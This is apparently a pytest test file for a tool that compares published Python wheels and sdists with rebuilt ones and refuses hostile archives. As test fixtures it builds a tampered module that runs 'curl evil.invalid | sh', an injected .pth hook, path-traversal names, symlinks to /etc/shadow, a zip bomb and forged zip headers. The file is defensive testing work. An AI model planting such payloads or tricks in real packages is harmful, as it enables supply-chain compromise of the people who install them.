"""The archive comparison on small archives made here: each kind of difference, and hostile archives."""

from __future__ import annotations

import base64
import hashlib
import io
import stat
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest

from pyprov.rebuild import ArchiveError, compare_archives

WHEEL_FILES = {
    "demo/__init__.py": b"VALUE = 1\n",
    "demo/core.py": b"def answer():\n    return 42\n",
    "demo-1.0.dist-info/METADATA": b"Metadata-Version: 2.4\nName: demo\nVersion: 1.0\n",
    "demo-1.0.dist-info/WHEEL": (
        b"Wheel-Version: 1.0\nGenerator: flit 3.12.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    ),
}


def make_wheel(
    path: Path,
    files: dict[str, bytes] | None = None,
    *,
    date: tuple[int, int, int, int, int, int] = (2024, 5, 1, 12, 0, 0),
    mode: int = 0o644,
    reverse: bool = False,
    method: int = zipfile.ZIP_DEFLATED,
) -> Path:
    """A wheel with a correct RECORD, like a backend writes."""
    content = dict(files if files is not None else WHEEL_FILES)
    record = "".join(
        f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}\n"
        for name, data in content.items()
    )
    content["demo-1.0.dist-info/RECORD"] = (record + "demo-1.0.dist-info/RECORD,,\n").encode()
    names = sorted(content, reverse=reverse)
    with zipfile.ZipFile(path, "w") as archive:
        for name in names:
            info = zipfile.ZipInfo(name, date_time=date)
            info.external_attr = (stat.S_IFREG | mode) << 16
            info.compress_type = method
            archive.writestr(info, content[name])
    return path


def make_sdist(path: Path, files: dict[str, bytes], *, mtime: int = 1_700_000_000) -> Path:
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), mtime, 0o644
            archive.addfile(info, io.BytesIO(data))
    return path


SDIST_FILES = {
    "demo-1.0/PKG-INFO": b"Metadata-Version: 2.4\nName: demo\nVersion: 1.0\n",
    "demo-1.0/pyproject.toml": (
        b'[build-system]\nrequires = ["flit_core"]\nbuild-backend = "flit_core.buildapi"\n'
    ),
    "demo-1.0/demo/__init__.py": b"VALUE = 1\n",
}


def twins(tmp_path: Path) -> tuple[Path, Path]:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    return tmp_path / "a" / "demo-1.0-py3-none-any.whl", tmp_path / "b" / "demo-1.0-py3-none-any.whl"


def test_the_same_bytes_are_identical(tmp_path: Path) -> None:
    a, b = twins(tmp_path)
    make_wheel(a)
    make_wheel(b)
    result = compare_archives(a, b)
    assert (result.verdict, result.differences) == ("identical", ())


def test_other_timestamps_order_permissions_and_compression_are_equivalent_and_each_listed(
    tmp_path: Path,
) -> None:
    a, b = twins(tmp_path)
    make_wheel(a)
    make_wheel(b, date=(1980, 1, 1, 0, 0, 0), mode=0o755, reverse=True, method=zipfile.ZIP_STORED)
    result = compare_archives(a, b)
    assert result.verdict == "equivalent"
    kinds = {item.kind: item for item in result.differences}
    assert set(kinds) == {"timestamps", "permissions", "compression", "order"}
    assert kinds["timestamps"].count == 5
    assert "2024-05-01 12:00:00 vs 1980-01-01 00:00:00" in kinds["timestamps"].detail
    assert "0o644 vs 0o755" in kinds["permissions"].detail
    assert not any(item.content for item in result.differences)


def test_an_injected_line_with_record_fixed_differs_and_names_the_member_with_a_diff(tmp_path: Path) -> None:
    a, b = twins(tmp_path)
    make_wheel(a)
    tampered = dict(WHEEL_FILES)
    tampered["demo/core.py"] = (
        b"import os; os.system('curl evil.invalid | sh')\n" + WHEEL_FILES["demo/core.py"]
    )
    make_wheel(b, tampered)
    result = compare_archives(b, a)
    assert result.verdict == "differs"
    changed = [item for item in result.differences if item.kind == "changed"]
    assert [item.members for item in changed] == [("demo-1.0.dist-info/RECORD",), ("demo/core.py",)]
    assert changed[1].diff is not None
    assert "-import os; os.system('curl evil.invalid | sh')\n" in changed[1].diff
    assert changed[1].diff.startswith("--- published/demo/core.py\n+++ rebuilt/demo/core.py\n")


def test_an_extra_file_in_an_sdist_differs_and_names_it(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    extra = {**SDIST_FILES, "demo-1.0/demo/_hook.pth": b"import evil\n"}
    published = make_sdist(tmp_path / "a" / "demo-1.0.tar.gz", extra)
    rebuilt = make_sdist(tmp_path / "b" / "demo-1.0.tar.gz", SDIST_FILES)
    result = compare_archives(published, rebuilt)
    assert result.verdict == "differs"
    content = [(item.kind, item.members) for item in result.differences if item.content]
    assert content == [("removed", ("demo-1.0/demo/_hook.pth",))]
    assert (
        result.differences[0].detail
        == "demo-1.0/demo/_hook.pth: only in the published archive (file, 12 bytes)"
    )


def test_binary_members_are_compared_by_size_and_digest(tmp_path: Path) -> None:
    a, b = twins(tmp_path)
    make_wheel(a, {**WHEEL_FILES, "demo/data.bin": b"\0\1\2"})
    make_wheel(b, {**WHEEL_FILES, "demo/data.bin": b"\0\1\2\3"})
    changed = [item for item in compare_archives(a, b).differences if item.members == ("demo/data.bin",)]
    assert changed[0].diff is None
    assert changed[0].detail.startswith("demo/data.bin: 3 vs 4 bytes (sha256 ")


def test_another_file_name_differs(tmp_path: Path) -> None:
    a = make_wheel(tmp_path / "demo-1.0-py3-none-any.whl")
    b = make_wheel(tmp_path / "demo-1.1-py3-none-any.whl", date=(2020, 1, 1, 0, 0, 0))
    result = compare_archives(a, b)
    assert result.verdict == "differs"
    assert result.differences[0].detail == "file name demo-1.0-py3-none-any.whl vs demo-1.1-py3-none-any.whl"


@pytest.mark.parametrize("name", ["../evil.py", "/etc/passwd", "demo/../../x", "a\\..\\b"])
def test_unsafe_member_names_are_refused(tmp_path: Path, name: str) -> None:
    a, b = twins(tmp_path)
    make_wheel(a)
    with zipfile.ZipFile(b, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name), b"x")
    with pytest.raises(ArchiveError, match="unsafe member name in archive"):
        compare_archives(a, b)


def test_a_zip_bomb_is_refused_before_it_is_expanded(tmp_path: Path) -> None:
    a, b = twins(tmp_path)
    make_wheel(a)
    with zipfile.ZipFile(b, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("demo/zeros.py", b"\0" * (8 << 20))
    with pytest.raises(ArchiveError, match=r"member 'demo/zeros.py' expands 8388608 bytes \(zip bomb\?\)"):
        compare_archives(a, b)


def test_duplicate_members_are_refused(tmp_path: Path) -> None:
    a, b = twins(tmp_path)
    make_wheel(a)
    with zipfile.ZipFile(b, "w") as archive:
        archive.writestr("demo/x.py", b"1")
        with pytest.warns(UserWarning, match="Duplicate name"):
            archive.writestr("demo/x.py", b"2")
    with pytest.raises(ArchiveError, match=r"duplicate member in archive: 'demo/x\.py'"):
        compare_archives(a, b)


def test_symlinks_in_an_sdist_are_compared_by_target_and_never_followed(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    paths = []
    for side, target in (("a", "/etc/passwd"), ("b", "../../../etc/shadow")):
        path = tmp_path / side / "demo-1.0.tar.gz"
        with tarfile.open(path, "w:gz") as archive:
            info = tarfile.TarInfo("demo-1.0/link")
            info.type, info.linkname = tarfile.SYMTYPE, target
            archive.addfile(info)
        paths.append(path)
    result = compare_archives(paths[0], paths[1])
    assert result.verdict == "differs"
    assert result.differences[0].members == ("demo-1.0/link",)


def test_something_that_is_not_an_archive_is_refused(tmp_path: Path) -> None:
    a, b = twins(tmp_path)
    make_wheel(a)
    b.write_bytes(b"not a zip")
    with pytest.raises(ArchiveError, match=r"demo-1\.0-py3-none-any\.whl is not a valid zip archive"):
        compare_archives(a, b)
    with pytest.raises(ArchiveError, match=r"setup.py is neither a wheel \(.whl\) nor an sdist \(.tar.gz\)"):
        compare_archives(a, tmp_path / "setup.py")


def _data_span(path: Path, name: str) -> tuple[int, int]:
    """Where the compressed bytes of member ``name`` lie in the zip at ``path``."""
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(name)
    raw = path.read_bytes()
    local = raw[info.header_offset : info.header_offset + 30]
    start = (
        info.header_offset
        + 30
        + int.from_bytes(local[26:28], "little")
        + int.from_bytes(local[28:30], "little")
    )
    return start, start + info.compress_size


def _poison(path: Path, name: str, byte: int) -> None:
    """Overwrite the member's deflate stream with bytes that cannot be inflated (invalid block type)."""
    start, end = _data_span(path, name)
    raw = bytearray(path.read_bytes())
    raw[start:end] = bytes([byte]) * (end - start)
    path.write_bytes(bytes(raw))


def _copy_with_one_later_member(source: Path, target: Path, later: str) -> None:
    """A copy of the wheel ``source`` whose member ``later`` has another time; nothing else differs."""
    with zipfile.ZipFile(source) as archive, zipfile.ZipFile(target, "w") as copy:
        for info in archive.infolist():
            if info.filename == later:
                info.date_time = (2025, 1, 1, 0, 0, 0)
            copy.writestr(info, archive.read(info))


def test_wheels_differing_in_one_timestamp_are_compared_without_inflating_any_member(tmp_path: Path) -> None:
    a, b = twins(tmp_path)
    make_wheel(a)
    _copy_with_one_later_member(a, b, later="demo/__init__.py")
    # demo/core.py cannot be inflated in either wheel: reading it would fail the comparison.
    for path in (a, b):
        _poison(path, "demo/core.py", 0xFF)
    with pytest.raises(zlib.error), zipfile.ZipFile(a) as archive:
        archive.read("demo/core.py")
    result = compare_archives(a, b)
    assert result.verdict == "equivalent"
    assert [(item.kind, item.members) for item in result.differences] == [
        ("timestamps", ("demo/__init__.py",))
    ]
    assert {m.name: m.sha256 for m in result.published.members}["demo/core.py"] is None


def test_a_member_whose_compressed_bytes_differ_is_inflated_and_checked(tmp_path: Path) -> None:
    a, b = twins(tmp_path)
    make_wheel(a)
    make_wheel(b, date=(2025, 1, 1, 0, 0, 0))
    _poison(a, "demo/core.py", 0xFF)
    _poison(b, "demo/core.py", 0xFE)
    with pytest.raises(
        ArchiveError, match=r"demo-1\.0-py3-none-any\.whl: cannot read member 'demo/core\.py'"
    ):
        compare_archives(a, b)


def test_members_with_other_compressed_bytes_are_compared_by_content_with_correct_digests(
    tmp_path: Path,
) -> None:
    a, b = twins(tmp_path)
    files = {**WHEEL_FILES, "demo/data.txt": b"same words\n" * 500, "demo/value.py": b"VALUE = 2\n"}
    make_wheel(a, files)
    with zipfile.ZipFile(a) as source, zipfile.ZipFile(b, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "demo/value.py":
                data = b"VALUE = 3\n"
            # Another compression level: other compressed bytes for the same content.
            target.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=1)
    result = compare_archives(a, b)
    assert result.verdict == "differs"
    assert [(item.kind, item.members) for item in result.differences] == [("changed", ("demo/value.py",))]
    changed = result.differences[0]
    assert changed.published == {"size": 10, "sha256": hashlib.sha256(b"VALUE = 2\n").hexdigest()}
    assert changed.rebuilt == {"size": 10, "sha256": hashlib.sha256(b"VALUE = 3\n").hexdigest()}
    digests = {m.name: m.sha256 for m in result.rebuilt.members}
    assert digests["demo/data.txt"] == hashlib.sha256(files["demo/data.txt"]).hexdigest()


def test_a_local_header_naming_another_member_is_refused(tmp_path: Path) -> None:
    a, b = twins(tmp_path)
    make_wheel(a)
    make_wheel(b, date=(2025, 1, 1, 0, 0, 0))
    for path in (a, b):
        with zipfile.ZipFile(path) as archive:
            offset = archive.getinfo("demo/core.py").header_offset
        raw = bytearray(path.read_bytes())
        raw[offset + 30 : offset + 30 + len("demo/core.py")] = b"demo/evil.py"
        path.write_bytes(bytes(raw))
    with pytest.raises(
        ArchiveError, match=r"member 'demo/core\.py' is named 'demo/evil\.py' in its local header"
    ):
        compare_archives(a, b)


def test_members_declaring_more_compressed_bytes_than_the_archive_holds_are_refused(tmp_path: Path) -> None:
    a, b = twins(tmp_path)
    make_wheel(a)
    make_wheel(b, date=(2025, 1, 1, 0, 0, 0))
    raw = bytearray(b.read_bytes())
    entry = raw.index(b"PK\x01\x02")  # the first central directory entry: its compressed size at +20
    raw[entry + 20 : entry + 24] = (1 << 30).to_bytes(4, "little")
    b.write_bytes(bytes(raw))
    with pytest.raises(ArchiveError, match="members declare more compressed bytes than the archive has"):
        compare_archives(a, b)
